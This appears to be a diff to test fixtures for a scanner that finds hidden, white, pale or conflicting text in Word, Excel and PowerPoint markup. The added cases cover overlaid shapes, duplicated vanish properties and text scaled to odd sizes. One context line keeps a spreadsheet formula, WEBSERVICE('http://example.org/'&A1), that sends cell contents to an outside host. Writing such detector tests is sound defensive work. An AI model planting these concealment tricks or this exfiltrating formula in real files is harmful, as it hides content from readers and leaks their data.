@@ -47,6 +47,10 @@ const MARKUP: readonly Crafted[] = [
     `<w:p><w:r><mc:AlternateContent><mc:Choice Requires="w14"><w:rPr><w:vanish/></w:rPr></mc:Choice></mc:AlternateContent><w:t>${T}</w:t></w:r></w:p>`,
     ['foreign-markup'],
   ),
+  word('its properties twice', `<w:p><w:r><w:rPr/><w:rPr><w:vanish/></w:rPr><w:t>${T}</w:t></w:r></w:p>`, [
+    'foreign-markup',
+  ]),
+  word('one property twice', paragraph(T, '<w:vanish/><w:vanish w:val="0"/>'), ['foreign-markup']),
   word('text of another namespace', '<x:t xmlns:x="urn:x">TOP SECRET</x:t>', [
     'foreign-markup',
     'hidden-text',
@@ -172,6 +176,16 @@ const LOOKS: readonly Crafted[] = [
     `<w:p><w:r><wps:wsp><wps:spPr><a:solidFill><a:srgbClr val="000000"/></a:solidFill></wps:spPr><w:txbxContent>${paragraph(T, '<w:color w:val="000000"/>')}</w:txbxContent></wps:wsp></w:r></w:p>`,
     ['white-text'],
   ),
+  word(
+    'a filled shape before its text',
+    '<w:p><w:r><w:drawing><wp:anchor behindDoc="0"><wps:wsp><wps:spPr><a:gradFill/></wps:spPr></wps:wsp></wp:anchor></w:drawing></w:r></w:p>',
+    ['pale-text'],
+  ),
+  word(
+    'a filled shape behind its text',
+    '<w:p><w:r><w:drawing><wp:anchor behindDoc="1"><wps:wsp><wps:spPr><a:gradFill/></wps:spPr></wps:wsp></wp:anchor></w:drawing></w:r></w:p>',
+    [],
+  ),
   word('a symbol beyond all letters', '<w:p><w:r><w:sym w:char="FFFFFF"/><w:sym w:char="D800"/></w:r></w:p>', []),
 ]
 
@@ -259,6 +273,16 @@ const BOOKS: readonly Crafted[] = [
     {},
     '<conditionalFormatting><cfRule><formula>WEBSERVICE("http://example.org/"&amp;A1)=1</formula></cfRule></conditionalFormatting>',
   ),
+  book(
+    'a filled shape over its cells',
+    '',
+    ['pale-text'],
+    part(
+      'xl/drawings/a.xml',
+      `${OFFICE}drawing+xml`,
+      `<xdr:wsDr ${SPACES}><xdr:sp><xdr:spPr><a:blipFill/></xdr:spPr></xdr:sp></xdr:wsDr>`,
+    ),
+  ),
   book('rows that are hidden unless they say otherwise', '', ['hidden-cells'], {}, '<sheetFormatPr zeroHeight="1"/>'),
 ]
 
@@ -290,6 +314,16 @@ const TALKS: readonly Crafted[] = [
     'text that only other programs show',
     `<mc:AlternateContent><mc:Choice Requires="p14">${shape('x')}</mc:Choice><mc:Fallback>${shape(T)}</mc:Fallback></mc:AlternateContent>`,
     ['readings-differ'],
+  ),
+  slides(
+    'a group that is drawn in another size',
+    `<p:grpSp><p:grpSpPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="9" cy="9"/><a:chOff x="0" y="0"/><a:chExt cx="1" cy="1"/></a:xfrm></p:grpSpPr>${shape(T)}</p:grpSp>`,
+    ['pale-text'],
+  ),
+  slides(
+    'text shrunk to fit',
+    `<p:sp><p:txBody><a:bodyPr><a:normAutofit fontScale="1000"/></a:bodyPr><a:p><a:r><a:t>${T}</a:t></a:r></a:p></p:txBody></p:sp>`,
+    ['pale-text'],
   ),
   slides(
     'a marking as a formula',
